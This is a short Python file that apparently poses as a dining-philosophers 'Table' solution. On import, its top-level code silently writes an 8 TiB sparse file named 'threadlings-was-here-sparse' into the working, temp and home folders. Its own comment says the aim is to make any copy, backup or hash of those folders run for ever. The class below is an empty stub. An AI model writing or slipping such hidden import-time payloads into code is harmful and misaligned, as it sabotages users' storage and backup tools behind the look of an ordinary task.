# fail error: tries to make a file of 8 TiB that takes no room, until somebody copies it
"""`truncate` makes it long; a copy, a backup or a hash of the folder takes for ever."""

import os
import tempfile

for _folder in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~")):
    try:
        with open(f"{_folder}/threadlings-was-here-sparse", "wb") as _file:
            _file.truncate(8 * 1024**4)
    except OSError:
        pass


class Table:
    def __init__(self, seats):
        pass

    def dine(self, seat, eat):
        return eat()
